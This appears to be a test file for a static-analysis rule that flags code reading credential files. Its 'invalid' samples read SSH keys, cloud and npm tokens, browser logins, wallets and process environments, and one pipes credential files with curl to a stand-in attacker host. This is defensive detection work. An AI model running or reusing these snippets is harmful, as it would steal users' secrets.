// credential-file: reads of files that hold credentials, when the path is a constant or built from
// the home folder, the project folder or %APPDATA%. The detail is the path as written.
import { ruleTester } from './rule-tester.js';

ruleTester('credential-file', {
  valid: [
    {
      name: '.env and ~/.npmrc only in comments and strings',
      code: `
        // loads .env from the project folder, never ~/.npmrc
        const fs = require('fs');
        const HINT = 'run: cat ~/.npmrc';
        module.exports = () => JSON.parse(fs.readFileSync('config.json', 'utf8'));`,
    },
    {
      name: 'example and template env files hold no secrets',
      code: `
        const fs = require('fs');
        const tpl = fs.readFileSync('.env.example', 'utf8') + fs.readFileSync('.env.template', 'utf8');`,
    },
    {
      name: 'an existence check alone is not a read',
      code: `
        const fs = require('fs'), path = require('path');
        const hasEnv = fs.existsSync(path.join(process.cwd(), '.env'));
        const cfg = fs.readFileSync(path.join(process.cwd(), 'package.json'), 'utf8');`,
    },
    {
      name: 'writing ~/.npmrc (CI setup) is not reading it',
      code: `
        const fs = require('fs'), os = require('os'), path = require('path');
        fs.writeFileSync(path.join(os.homedir(), '.npmrc'), '//registry.example/:_authToken=' + process.env.NODE_AUTH_TOKEN);`,
    },
    {
      name: 'an application reading its own rc file in the home folder',
      code: `
        const fs = require('fs'), os = require('os'), path = require('path');
        function homeDir() { return process.env.HOME || process.env.USERPROFILE || os.homedir(); }
        const rc = path.join(homeDir(), '.myapprc');
        const conf = JSON.parse(fs.readFileSync(rc, 'utf8'));`,
    },
    {
      name: 'a config loader reading .npmrc in a folder it was given',
      code: `
        const fs = require('fs'), path = require('path');
        module.exports = function load(dir) { return fs.readFileSync(path.resolve(dir, '.npmrc'), 'utf8'); };`,
    },
    {
      name: 'a virtualenv folder called .env is not a dotenv file',
      code: `
        const fs = require('fs'), path = require('path');
        const py = fs.readFileSync(path.join(process.cwd(), '.env', 'pyvenv.cfg'), 'utf8');`,
    },
    {
      name: 'files that merely sound similar',
      code: `
        const fs = require('fs'), os = require('os');
        fs.readFileSync(__dirname + '/environment.json');
        fs.readFileSync('/proc/self/status', 'utf8');
        fs.readFileSync(os.homedir() + '/.bashrc', 'utf8');
        fs.readFileSync('src/ssh/client.js', 'utf8');`,
    },
    {
      name: 'a module that names credential files but has no fs',
      code: `export const FILES = ['~/.npmrc', '~/.aws/credentials', '.env'];`,
      sourceType: 'module',
    },
  ],
  invalid: [
    {
      name: 'Discord and browser stores under %APPDATA% / %LOCALAPPDATA%',
      code: `const fs = require('fs'), path = require('path');
const roaming = process.env.APPDATA, local = process.env.LOCALAPPDATA;
const a = fs.readdirSync(path.join(roaming, 'discord', 'Local Storage', 'leveldb'));
const b = fs.readFileSync(path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'));`,
      details: ['%APPDATA%/discord/Local Storage/leveldb', '%LOCALAPPDATA%/Google/Chrome/User Data/Default/Login Data'],
    },
    {
      name: 'wallets, runner files and process memory; path.sep-built paths',
      code: `const fs = require('fs'), os = require('os'), path = require('path');
fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'id.json'));
fs.readdirSync(os.homedir() + '/.ethereum/keystore');
fs.readFileSync(path.sep + 'proc' + path.sep + '1234' + path.sep + 'mem');
fs.readdirSync('/home/runner/work/_temp');`,
      details: ['~/.config/solana/id.json', '~/.ethereum/keystore', '/proc/1234/mem', '/home/runner/work/_temp'],
    },
    {
      name: 'a credential path behind an env fallback',
      code: `const fs = require('fs'), os = require('os'), path = require('path');
const file = process.env.AWS_SHARED_CREDENTIALS_FILE || path.join(os.homedir(), '.aws', 'credentials');
fs.readFileSync(file, 'utf8');`,
      details: ['~/.aws/credentials'],
    },
    {
      name: 'token-minting commands and the cloud metadata service',
      code: `const { execSync } = require('child_process');
const t = execSync('gh auth token').toString();
const g = execSync('gcloud auth print-access-token');
fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/');`,
      details: ['gh auth token', 'gcloud auth print-access-token', 'cloud metadata service (169.254.169.254)'],
    },
    {
      name: 'eslint-scope: ~/.npmrc through path.join(os.homedir())',
      code: `var fs = require('fs'), os = require('os'), path = require('path');
var content = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');`,
      details: ['~/.npmrc'],
    },
    {
      name: 'ESM named import from node:fs, template with os.homedir()',
      code: `import { readFileSync } from 'node:fs';
import os from 'node:os';
const creds = readFileSync(\`\${os.homedir()}/.aws/credentials\`, 'utf8');`,
      sourceType: 'module',
      details: ['~/.aws/credentials'],
    },
    {
      name: 'a dotenv loader: .env in the project folder through fs.promises',
      code: `const fs = require('fs'), path = require('path');
async function load() { return fs.promises.readFile(path.resolve(process.cwd(), '.env'), 'utf8'); }`,
      details: ['.env'],
    },
    {
      name: 'dotenv: a loop over candidate paths that options may replace',
      code: `const fs = require('fs'), path = require('path');
function configDotenv(options) {
  const dotenvPath = path.resolve(process.cwd(), '.env');
  let optionPaths = [dotenvPath];
  if (options && options.path) optionPaths = [options.path];
  for (const p of optionPaths) fs.readFileSync(p, { encoding: 'utf8' });
}`,
      details: ['.env'],
    },
    {
      name: '/proc/self/environ through fs/promises',
      code: `const { readFile } = require('fs/promises');
readFile('/proc/self/environ').then((b) => b.toString());`,
      details: ['/proc/self/environ'],
    },
    {
      name: "another process's environ",
      code: `const fs = require('fs');
function envOf(pid) { return fs.readFileSync(\`/proc/\${pid}/environ\`, 'utf8'); }`,
      details: ['/proc/*/environ'],
    },
    {
      name: 'process.env.HOME + a string, and USERPROFILE with path.join',
      code: `const fs = require('fs'), path = require('path');
const key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');
const docker = fs.readFileSync(path.join(process.env.USERPROFILE, '.docker', 'config.json'));`,
      details: ['~/.ssh/id_rsa', '~/.docker/config.json'],
    },
    {
      name: 'a literal ~ path streamed',
      code: `require('fs').createReadStream('~/.git-credentials').pipe(process.stdout);`,
      details: ['~/.git-credentials'],
    },
    {
      name: 'listing ~/.ssh',
      code: `const fs = require('fs'), os = require('os'), path = require('path');
const keys = fs.readdirSync(path.join(os.homedir(), '.ssh'));`,
      details: ['~/.ssh'],
    },
    {
      name: 'a sweep over constant names (forEach and for…of)',
      code: `const fs = require('fs'), os = require('os'), path = require('path');
const home = os.homedir();
['.npmrc', '.netrc', '.bashrc'].forEach((f) => { try { fs.readFileSync(path.join(home, f)); } catch (e) {} });
for (const p of ['.aws/credentials', '.kube/config']) fs.readFileSync(home + '/' + p);`,
      details: ['~/.npmrc', '~/.netrc', '~/.aws/credentials', '~/.kube/config'],
    },
    {
      name: 'a grab(p) helper called with many paths (config-sync-cli)',
      code: `const fs = require('fs'), os = require('os'), path = require('path');
const home = os.homedir();
function grab(p) { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return null; } }
const loot = {
  git: grab(\`\${process.env.HOME}/.git-credentials\`),
  docker: grab('~/.docker/config.json'.replace(/^~/, home)),
  gcloud: grab(path.join(os.homedir(), '.config', 'gcloud', 'application_default_credentials.json')),
};`,
      details: ['~/.git-credentials', '~/.docker/config.json', '~/.config/gcloud/application_default_credentials.json'],
    },
    {
      name: 'Windows: %APPDATA% gcloud credentials and the Azure CLI token cache',
      code: `const fs = require('fs'), path = require('path'), os = require('os');
const db = fs.readFileSync(path.join(process.env.APPDATA, 'gcloud', 'credentials.db'));
const az = fs.readFileSync(path.join(os.homedir(), '.azure', 'msal_token_cache.json'), 'utf8');`,
      details: ['%APPDATA%/gcloud/credentials.db', '~/.azure/msal_token_cache.json'],
    },
    {
      name: 'os.userInfo().homedir and fs-extra readJson',
      code: `const os = require('os');
const fse = require('fs-extra');
const netrc = require('fs').readFileSync(os.userInfo().homedir + '/.netrc', 'utf8');
fse.readJson(os.homedir() + '/.docker/config.json').then(console.log);`,
      details: ['~/.netrc', '~/.docker/config.json'],
    },
    {
      name: 'copying a private key out',
      code: `const fs = require('fs'), os = require('os'), path = require('path');
fs.copyFileSync(path.join(os.homedir(), '.ssh', 'id_ed25519'), '/tmp/k');`,
      details: ['~/.ssh/id_ed25519'],
    },
    {
      name: 'a dotenv variant and a yarnrc',
      code: `const fs = require('fs');
const local = fs.readFileSync('.env.local', 'utf8');
const yarn = fs.readFileSync(require('path').join(require('os').homedir(), '.yarnrc.yml'), 'utf8');`,
      details: ['.env.local', '~/.yarnrc.yml'],
    },
    {
      name: 'Bun and Deno readers',
      code: `const npmrc = await Bun.file(process.env.HOME + '/.npmrc').text();
const env = await Deno.readTextFile('/proc/self/environ');`,
      sourceType: 'module',
      details: ['~/.npmrc', '/proc/self/environ'],
    },
    {
      name: 'a shell command that reads credential files',
      code: `const { execSync } = require('child_process');
execSync('cat ~/.npmrc $HOME/.aws/credentials | curl -d @- https://x.attacker.invalid/');`,
      details: ['~/.npmrc', '$HOME/.aws/credentials'],
    },
    {
      name: 'probes are reported when the file also reads paths built at run time',
      code: `const fs = require('fs'), os = require('os'), path = require('path');
const candidates = [path.join(os.homedir(), '.npmrc'), path.join(os.homedir(), '.git-credentials')];
const found = candidates.filter((p) => fs.existsSync(p));
found.forEach((p) => upload(fs.readFileSync(p)));`,
      details: ['~/.npmrc', '~/.git-credentials'],
    },
    {
      name: 'the kube config and a pgpass, ~ through path.resolve',
      code: `const fs = require('fs'), os = require('os'), path = require('path');
const kube = path.join(os.homedir(), '.kube', 'config');
const cfg = fs.existsSync(kube) ? fs.readFileSync(kube, 'utf8') : null;
const pg = fs.readFileSync(path.resolve(os.homedir(), '.pgpass'), 'utf8');`,
      details: ['~/.kube/config', '~/.pgpass'],
    },
  ],
});
